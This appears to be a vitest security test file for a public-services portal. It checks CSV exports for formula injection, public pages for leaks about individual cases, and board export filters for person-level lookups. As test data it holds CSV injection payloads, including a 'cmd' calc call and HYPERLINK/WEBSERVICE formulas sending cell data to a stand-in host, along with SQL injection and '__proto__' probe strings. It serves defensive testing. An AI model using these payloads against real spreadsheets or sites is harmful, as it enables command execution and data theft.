import { afterAll, beforeAll, expect, test } from 'vitest'

import { csvLine } from '#app/view/csv-line.ts'
import { submitted } from '#tests/factories/environment.ts'

import { startPortal, type TestPortal } from '../journeys/test-portal.ts'

import { Client } from './client.ts'
import { counter } from './counter.ts'
import { signInAs } from './sign-in-as.ts'

export const ATTEMPTS = 140

const tried = counter()
let portal: TestPortal
beforeAll(async () => void (portal = await startPortal()))
afterAll(() => portal.stop())

/** The cells of a file by RFC 4180. */
const cells = (file: string): string[] =>
  [...file.replace(/^\ufeff/, '').matchAll(/(?:^|(?<=[,\n]))(?:"((?:[^"]|"")*)"|([^,\n]*))/g)].map(([, inQuotes, plain]) => inQuotes?.replaceAll('""', '"') ?? plain ?? '')

/** What a spreadsheet would run; what is a number is ours. */
const formulas = (file: string): string[] => cells(file).filter((cell) => /^[\s\u0000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^-?\d/.test(cell))

const LEADS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\uff1d', '\uff0b', '\uff0d', '\uff20', 'a;=', 'a\t=', 'a,=', 'a\n=', 'a\r\n=', '";=', '",=', '"=', 'a";"=']
const BODIES = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://elsewhere.example?"&A1,"x")', 'WEBSERVICE("http://elsewhere.example")']

test('no cell of a file becomes a formula', async () => {
  for (const lead of LEADS) for (const body of BODIES) {
    tried.made += 1
    expect(formulas(csvLine(['first', lead + body, 'last'])), JSON.stringify(lead + body)).toEqual([])
  }
})

test('nor in any file that can be had here, with people named so', async () => {
  const { env } = portal
  for (const id of ['staff-clerk', 'citizen-0000']) {
    const person = (await env.store.people.find(id))!
    await env.store.people.put([{ ...person, name: '=HYPERLINK("http://elsewhere.example");@x', companies: person.companies.map((company) => ({ ...company, name: `+${company.name}` })) }])
  }
  const ref = await submitted(env, 'restaurant-opening', 'citizen-0000')
  const clerk = await Client.signedIn(portal.url, 'staff-clerk')
  await clerk.post(`/desk/cases/${ref}`, { task: 'acceptance', round: '1', desk: 'market_regulation.clerk', version: '1', intent: 'claim' })
  await clerk.get(`/desk/cases/${ref}`)
  const citizen = await Client.signedIn(portal.url, 'citizen-0000')
  const manager = await signInAs(portal, 'staff-manager')
  const steward = await signInAs(portal, 'staff-public-security-steward-1')
  for (const [client, path] of [[citizen, '/my-data/access.csv'], [manager, '/board/export.csv?what=figures'], [manager, '/board/export.csv?what=turnarounds'], [steward, '/steward.csv']] as const) {
    const response = await tried.of(client.get(path))
    const file = await response.text()
    expect([response.status, file.split('\r\n').length > 1, formulas(file)], path).toEqual([200, true, []])
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment/)
  }
})

test('what everybody may see is the same before and after a single person’s case: no figure gives away one', async () => {
  const visitor = new Client(portal.url)
  const { catalogue } = portal.env
  const paths = ['/', '/services', '/help', '/verify', '/data', '/data.jsonld', '/data/dictionary', ...Object.keys(catalogue.registers).map((register) => `/data/${register}`), ...Object.keys(catalogue.services).map((service) => `/services/${service}`)]
  const seen = async () => Object.fromEntries(await Promise.all(paths.map(async (path) => [path, (await (await tried.of(visitor.get(path))).text()).replaceAll(/nonce="[^"]*"/g, '')] as const)))
  const before = await seen()
  await submitted(portal.env, 'disabled-parking-badge', 'citizen-0003')
  await submitted(portal.env, 'driving-licence-renewal', 'citizen-0001').catch(() => null)
  expect(await seen()).toEqual(before)
})

test('no filter of the board reaches a person: what names one is answered as nothing', async () => {
  const manager = await signInAs(portal, 'staff-manager')
  const subject = (await portal.env.store.people.find('citizen-0003'))?.subject ?? ''
  const whole = await (await manager.get('/board/export.csv')).text()
  for (const name of ['person', 'subject', 'applicant', 'company', 'region', 'age', 'sex', 'desk', 'clerk', 'ref', 'q']) for (const value of [subject, 'citizen-0003', '%']) {
    expect(await (await tried.of(manager.get(`/board/export.csv?${name}=${encodeURIComponent(value)}`))).text()).toBe(whole)
  }
  expect((await tried.of(manager.get('/board/services/__proto__'))).status).toBe(404)
  for (const service of ['__proto__', 'constructor', "' or 1=1 --", '*']) expect((await tried.of(manager.get(`/board/export.csv?service=${encodeURIComponent(service)}`))).status).toBe(404)
})

test('all of this was tried', () => expect([tried.made >= ATTEMPTS, portal.errors], String(tried.made)).toEqual([true, []]))
